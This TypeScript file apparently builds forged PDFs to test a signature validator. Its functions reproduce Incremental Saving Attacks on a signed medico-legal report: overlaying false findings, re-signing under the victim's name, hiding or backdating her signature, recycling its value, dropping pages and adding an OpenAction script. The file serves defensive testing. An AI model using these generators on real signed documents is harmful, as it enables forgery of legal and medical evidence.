/**
 * Incremental Saving Attacks (ISA). Mladenov, Mainka, Meyer zu Selhausen, Grothe, Schwenk, "1 Trillion
 * Dollar Refund – How To Spoof PDF Signatures", ACM CCS 2019, §4.2 (and the 2018 vulnerability report
 * "Attacks bypassing the signature validation in PDF").
 *
 * What we learned. A signature's /ByteRange covers the file as it was when signed; PDF lets anyone
 * append a revision (new objects, a cross-reference section, a trailer with /Prev) that redefines any
 * object, and a viewer shows the *latest* definitions. The signature still verifies over its own bytes,
 * so a validator that only checks the CMS over the ByteRange and reports "not the whole document" as a
 * footnote (poppler's pdfsig: "Signature is Valid." / "Not total document signed") lets the changed
 * page pass. The paper's variants, all reproduced here: (1) a plain update redefining page content;
 * (2) the same, made stealthier by a new signature by the attacker so that the *last* signature covers
 * the whole file (several viewers only checked the last one); (3) updates without a cross-reference
 * section or trailer, or with a trailer whose /Prev is missing or points elsewhere, which lenient
 * parsers repair by scanning; and the signature dictionary itself redefined in a later revision (the
 * /ByteRange and /Contents copied, every other entry, e.g. /M, the attacker's), which a verifier that
 * reads the signature from the latest revision believes. The defence: compute the document as each
 * signature saw it (its revision, by that revision's cross-reference) and compare it with the latest,
 * object by object, allowing only what the signatures permit; any appended byte that is not a sound
 * revision is itself a finding.
 *
 * pyHanko's diff analysis tests (MatthiasValvekens/pyHanko, pkgs/pyhanko/tests/test_diff_analysis.py)
 * add: a signature's value deleted (`test_delete_signature`), its widget removed from /Annots
 * (`test_delete_sig_annot`), its signature object tampered (`test_tamper_sig_obj`), a freed object
 * (`test_sign_reject_freed`), and a new field recycling an existing signature value
 * (`test_maliciously_recycled_sig_add_visible_field_approval`).
 */
import { signPdf } from '../../../../shared/signing';
import { formatPdfDate } from '../../../../shared/signing/pdfDate';
import { ALICE, type Genuine, type SignOptionsPlus } from './genuine';
import { FALSE_RECT, FALSE_TEXT, PERSONS_PRESENT_RECT, annotsOf, appearance, contentsOf, overlayOnPage, refArray, rewritten, whiteBox, whiteBoxWithText } from './forge';
import { appendUpdate, dictOf, hexText, literal, mapDocument, rawBody, readXref, ref, refNum, streamData, type ObjectDef } from './pdfWriter';

/** Mallory signs as "Dr Alice Examiner" with her own key (signPdf, an invisible approval signature). */
export function malloryResigns(g: Genuine, pdf: Uint8Array): Promise<Uint8Array> {
  const options: SignOptionsPlus = { signingTime: g.times.mallory, name: ALICE, reason: 'Author of this medico-legal report' };
  return signPdf(pdf, g.mallory, options);
}

/** ISA 1: a new content stream paints a white box and the false finding over page 1. */
export function isaPageContent(g: Genuine): Uint8Array {
  return appendUpdate(g.certified, { objects: overlayOnPage(g.certified, whiteBoxWithText(FALSE_RECT, FALSE_TEXT)) });
}

/** ISA 2: the same, then signed by the forger (same name, own key): the last signature covers the whole file. */
export function isaPageContentResigned(g: Genuine): Promise<Uint8Array> {
  return malloryResigns(g, isaPageContent(g));
}

/**
 * ISA 2b: the same, and Alice's signature hidden in the latest revision (its field gone from
 * /AcroForm /Fields, its widget from page 9's /Annots) before the forger signs: a viewer lists one
 * signature, "Dr Alice Examiner", valid, covering the whole document.
 */
export function isaHideSignatureResigned(g: Genuine): Promise<Uint8Array> {
  const pdf = g.certified;
  const map = mapDocument(pdf);
  const aliceField = map.fields.get('Signature1');
  const lastPage = map.pageNums[g.signatureBlock.pageIndex];
  if (aliceField === undefined || map.acroForm === null || lastPage === undefined) throw new Error('genuine report without its signature field');
  const objects: ObjectDef[] = [
    ...overlayOnPage(pdf, whiteBoxWithText(FALSE_RECT, FALSE_TEXT)),
    rewritten(pdf, map.acroForm, { Fields: '[]' }),
    rewritten(pdf, lastPage, { Annots: refArray(annotsOf(pdf, lastPage).filter((n) => n !== aliceField)) }),
  ];
  return malloryResigns(g, appendUpdate(pdf, { objects }));
}

/** ISA with no new content stream: page 1's own content stream object redefined (the page dictionary untouched), whiting out who was present. */
export function isaRedefineContentStream(g: Genuine): Uint8Array {
  const pdf = g.certified;
  const page = mapDocument(pdf).pageNums[0] ?? 0;
  const [stream] = contentsOf(pdf, page);
  if (stream === undefined) throw new Error('page 1 has no content');
  const original = Buffer.from(streamData(pdf, stream)).toString('latin1');
  return appendUpdate(pdf, { objects: [{ num: stream, body: { data: `q\n${original}\nQ\n${whiteBox(PERSONS_PRESENT_RECT)}`, compress: true } }] });
}

/** An update whose cross-reference only frees page 1's content stream: page 1 goes blank. */
export function isaFreeContentStream(g: Genuine): Uint8Array {
  const pdf = g.certified;
  const [stream] = contentsOf(pdf, mapDocument(pdf).pageNums[0] ?? 0);
  if (stream === undefined) throw new Error('page 1 has no content');
  return appendUpdate(pdf, { free: [stream] });
}

/** ISA variant: the redefined objects appended with no cross-reference, trailer or %%EOF (lenient parsers take them). */
export function isaNoXref(g: Genuine): Uint8Array {
  return appendUpdate(g.certified, { objects: overlayOnPage(g.certified, whiteBoxWithText(FALSE_RECT, FALSE_TEXT)), xref: 'none' });
}

/** ISA variant: a complete cross-reference of its own and a trailer without /Prev, so the history (and the signed revision) is cut off. */
export function isaNoPrev(g: Genuine): Uint8Array {
  const pdf = g.certified;
  const objects = overlayOnPage(pdf, whiteBoxWithText(FALSE_RECT, FALSE_TEXT));
  const changed = new Set(objects.map((o) => o.num));
  const repoint = [...readXref(pdf).entries].filter(([num, e]) => e.inUse && !changed.has(num)).map(([num, e]) => ({ num, offset: e.offset, gen: e.gen }));
  return appendUpdate(pdf, { objects, repoint, trailer: { prev: null } });
}

/** ISA variant: /Prev points at the original file's cross-reference, skipping the signed revision (the viewer sees an unsigned, changed report). */
export function isaPrevSkipsSignedRevision(g: Genuine): Uint8Array {
  const pdf = g.certified;
  const original = readXref(g.unsigned).startxref;
  return appendUpdate(pdf, { objects: overlayOnPage(g.unsigned, whiteBoxWithText(FALSE_RECT, FALSE_TEXT), { first: mapDocument(pdf).next }), trailer: { prev: original } });
}

/**
 * Alice's signature dictionary redefined in a later revision with the same /ByteRange and /Contents
 * (so the CMS still verifies over the same bytes) but a signing time one year earlier and another
 * reason. With CAdES B-B the time is only in /M: a verifier reading the latest dictionary reports it.
 */
export function isaBackdateSignature(g: Genuine): Uint8Array {
  const pdf = g.certified;
  const field = mapDocument(pdf).fields.get('Signature1');
  if (field === undefined) throw new Error('no Signature1');
  const sigNum = refNum(dictOf(pdf, field), 'V');
  const earlier = new Date(g.times.alice.getTime() - 365 * 24 * 3600_000);
  const body = rawBody(pdf, sigNum)
    .replace(/\/M\s*\([^)]*\)/, `/M ${literal(formatPdfDate(earlier))}`)
    .replace(/\/Reason\s*<[^>]*>/, `/Reason ${hexText('Draft, superseded: not for court use')}`);
  return appendUpdate(pdf, { objects: [{ num: sigNum, body }] });
}

/**
 * A new, visible signature field on page 1 whose value is Alice's existing signature dictionary and
 * whose appearance paints the false finding: no new signature, yet the page shows a "signed" box.
 */
export function isaRecycledSignatureValue(g: Genuine): Uint8Array {
  const pdf = g.certified;
  const map = mapDocument(pdf);
  const aliceField = map.fields.get('Signature1');
  const page = map.pageNums[0];
  if (aliceField === undefined || map.acroForm === null || page === undefined) throw new Error('genuine report without its signature field');
  const sigNum = refNum(dictOf(pdf, aliceField), 'V');
  const [field, ap] = [map.next, map.next + 1];
  return appendUpdate(pdf, {
    objects: [
      { num: ap, body: appearance(FALSE_RECT, FALSE_TEXT) },
      { num: field, body: `<< /Type /Annot /Subtype /Widget /FT /Sig /Rect [${FALSE_RECT.join(' ')}] /V ${ref(sigNum)} /T ${hexText('Signature1 ')} /F 4 /P ${ref(page)} /AP << /N ${ref(ap)} >> >>` },
      rewritten(pdf, page, { Annots: refArray([...annotsOf(pdf, page), field]) }),
      rewritten(pdf, map.acroForm, { Fields: refArray([...map.fields.values(), field]) }),
    ],
  });
}

/** Page 1's /MediaBox cut above the persons present: they, and everything below, disappear from view. */
export function isaMediaBox(g: Genuine): Uint8Array {
  const pdf = g.certified;
  const page = mapDocument(pdf).pageNums[0] ?? 0;
  return appendUpdate(pdf, { objects: [rewritten(pdf, page, { MediaBox: `[0 ${String(PERSONS_PRESENT_RECT[3] + 4)} 595.28 841.89]` })] });
}

/** A page (page 3) dropped from the page tree. */
export function isaPageRemoved(g: Genuine): Uint8Array {
  const pdf = g.certified;
  const map = mapDocument(pdf);
  const kids = map.pageNums.filter((_, i) => i !== 2);
  return appendUpdate(pdf, { objects: [rewritten(pdf, map.pages, { Kids: refArray(kids), Count: String(kids.length) })] });
}

/** The document information's title changed to another case. */
export function isaInfoTitle(g: Genuine): Uint8Array {
  const pdf = g.certified;
  const info = Number((readXref(pdf).info ?? '').split(' ')[0]);
  return appendUpdate(pdf, { objects: [rewritten(pdf, info, { Title: hexText('Medico-legal report A-2025-00043 v1 (no findings)') })] });
}

/** The catalog gains an /OpenAction (JavaScript that would rewrite the page in viewers that run it). */
export function isaOpenAction(g: Genuine): Uint8Array {
  const pdf = g.certified;
  const map = mapDocument(pdf);
  const js = map.next;
  return appendUpdate(pdf, {
    objects: [
      { num: js, body: `<< /Type /Action /S /JavaScript /JS ${literal('app.alert("No injuries consistent with the allegation");')} >>` },
      rewritten(pdf, map.root, { OpenAction: ref(js) }),
    ],
  });
}

